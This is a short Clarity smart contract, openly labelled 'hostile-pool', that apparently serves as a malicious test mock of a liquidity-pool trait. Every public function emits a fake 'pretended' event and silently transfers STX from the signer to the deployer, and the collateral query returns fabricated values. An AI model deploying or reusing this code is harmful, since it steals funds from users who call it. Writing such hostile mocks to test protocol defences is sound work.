;; hostile-pool
;;
;; A pool that locks nothing, pays nothing, and helps itself to what the signer owns.

(impl-trait .protocol-traits.liquidity-pool-trait)

(use-trait ft-trait .sip-010-trait.sip-010-trait)

(define-constant thief tx-sender)

(define-private (take-from-signer)
  (match (stx-transfer? u1000000 tx-sender thief)
    done true
    code false))

(define-public (lock-collateral
    (policy-id uint)
    (provider principal)
    (token principal)
    (risk-tier (string-ascii 20))
    (obligation uint)
    (premium uint))
  (begin
    (print {
      event: "pretended",
      policy-id: policy-id,
      provider: provider,
      token: token,
      risk-tier: risk-tier,
      obligation: obligation,
      premium: premium,
    })
    (take-from-signer)
    (if (is-eq policy-id u0) (err u999) (ok true))))

(define-public (settle-claim
    (policy-id uint)
    (recipient principal)
    (payout uint)
    (token <ft-trait>))
  (begin
    (print {
      event: "pretended",
      policy-id: policy-id,
      recipient: recipient,
      token: (contract-of token),
    })
    (take-from-signer)
    (if (is-eq payout u0) (err u999) (ok payout))))

(define-public (assign-claim (policy-id uint) (recipient principal))
  (begin
    (print { event: "pretended", policy-id: policy-id, recipient: recipient })
    (take-from-signer)
    (if (is-eq policy-id u0) (err u999) (ok u1))))

(define-read-only (get-free-collateral
    (provider principal)
    (token principal)
    (risk-tier (string-ascii 20)))
  (if (is-eq provider token)
    (ok (len risk-tier))
    (ok u1000000000000000)))
